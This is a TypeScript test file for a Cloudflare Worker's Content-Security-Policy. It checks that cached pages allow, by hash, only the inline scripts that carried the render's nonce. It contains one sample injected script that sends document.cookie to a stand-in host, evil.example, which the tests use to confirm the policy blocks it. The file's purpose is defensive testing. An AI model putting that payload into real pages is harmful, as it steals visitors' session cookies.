import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { CSP, hashPolicy, nonceOf, noncePolicy } from "#worker/http/content-security-policy.ts";
import { privateCopyOf, serveShared } from "#worker/http/edge-cache.ts";
import { noncedInlineScripts } from "#worker/http/nonced-scripts.ts";
import { withWrittenVotes } from "#worker/http/written-votes.ts";
import { BASE } from "./helpers";

// A page stored in the edge cache is served to every visitor without a cookie, with a policy that
// names its scripts by hash. Only the scripts its render gave the nonce may be named: markup that
// slipped into the page (an injection bug) must stay refused for all of them.

const NONCE = "bm9uY2UtZm9yLXRlc3Rz";

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
}

/** The policy's script-src directive, the one that decides which scripts run. */
const scriptSrc = (policy: string | null) =>
  (policy ?? "").split(";").find((directive) => directive.trim().startsWith("script-src")) ?? "";

const ours = ["window.__reactRouterContext = {};", 'import "/assets/entry.client.js";'];
const injected = "fetch('https://evil.example/?c=' + document.cookie)";

/** A page as React and React Router render it, with one script that never had the nonce. */
const page = `<!DOCTYPE html><html><head><title>Q</title></head><body>
<h1>Would you rather</h1><p>${`<script>${injected}</script>`}</p>
<script nonce="${NONCE}">${ours[0]}</script>
<script nonce="${NONCE}" type="module" async="">${ours[1]}</script>
</body></html>`;

const pageHeaders = () => ({ "Content-Type": "text/html; charset=utf-8", [CSP]: noncePolicy(NONCE) });

describe("the scripts a stored page's policy allows", () => {
  it("are the inline scripts that carried the render's nonce, however the tag is written", async () => {
    const html = [
      `<script nonce="${NONCE}">one()</script>`,
      `<script type="module"\n  async nonce='${NONCE}'>two()</script>`,
      `<SCRIPT NONCE=${NONCE} >three()</SCRIPT >`,
      `<script nonce="${NONCE}">four(\r\n)</script>`,
      `<script>unmarked()</script>`,
      `<script nonce="someone-elses">other()</script>`,
      `<script nonce="${NONCE}x">near()</script>`,
      `<script data-nonce="${NONCE}">lookalike()</script>`,
      `<script nonce="${NONCE}" src="/assets/a.js"></script>`,
      `<!-- <script nonce="${NONCE}">commented()</script> -->`,
      `<p title='<script nonce="${NONCE}">quoted()</script>'>text</p>`,
      `<script nonce="${NONCE}">const s = "<script nonce='x'>inner()";</script>`,
    ].join("\n");
    expect(await noncedInlineScripts(html, NONCE)).toEqual([
      "one()",
      "two()",
      "three()",
      "four(\n)",
      `const s = "<script nonce='x'>inner()";`,
    ]);
  });

  it("are named by their hashes, and a script without the nonce is not", async () => {
    const policy = scriptSrc(await hashPolicy(page, NONCE));
    for (const script of ours) expect(policy).toContain(await sha256(script));
    expect(policy).not.toContain(await sha256(injected));
    expect(policy).not.toContain("'nonce-");
    expect(policy).not.toContain("'unsafe-inline'");
  });

  it("are none when the page had no nonce", async () => {
    expect(scriptSrc(await hashPolicy(page, undefined))).toBe(
      " script-src 'self' https://challenges.cloudflare.com",
    );
  });

  it("are found by the nonce the render's own policy names", () => {
    expect(nonceOf(noncePolicy(NONCE))).toBe(NONCE);
    expect(nonceOf("default-src 'self'; style-src 'nonce-abc'")).toBeUndefined();
    expect(nonceOf(null)).toBeUndefined();
  });
});

describe("a page from the edge cache", () => {
  async function serve(url: string) {
    const ctx = createExecutionContext();
    const response = await serveShared(
      new Request(url),
      ctx,
      () => new Response(page, { headers: pageHeaders() }),
      "build-1",
    );
    const body = await response.text();
    await waitOnExecutionContext(ctx);
    return { response, body };
  }

  it("runs the render's scripts by hash and refuses one that never had the nonce", async () => {
    const url = `${BASE}/policy-page`;
    const first = await serve(url);
    const hit = await serve(url);
    expect(first.response.headers.get("X-Cache")).toBe("MISS");
    expect(hit.response.headers.get("X-Cache")).toBe("HIT");
    expect(hit.body).toBe(page);
    for (const response of [first.response, hit.response]) {
      const policy = scriptSrc(response.headers.get(CSP));
      for (const script of ours) expect(policy).toContain(await sha256(script));
      expect(policy).not.toContain(await sha256(injected));
      expect(policy).not.toContain(`'nonce-${NONCE}'`);
    }
  });

  it("keeps its policy when a returning voter's votes are written onto it", async () => {
    const url = `${BASE}/policy-page-voted`;
    await serve(url);
    const hit = (await serve(url)).response;
    const copy = new Response(page, { headers: hit.headers });
    const voted = withWrittenVotes(privateCopyOf(copy), { cards: {}, panels: { q1: "A" } });
    const body = await voted.text();
    // The votes go in as JSON, which a browser never runs, so the copy's policy still holds.
    expect(body).toContain('<script type="application/json" id="written-votes">{"q1":"A"}</script>');
    expect(voted.headers.get(CSP)).toBe(hit.headers.get(CSP));
  });
});
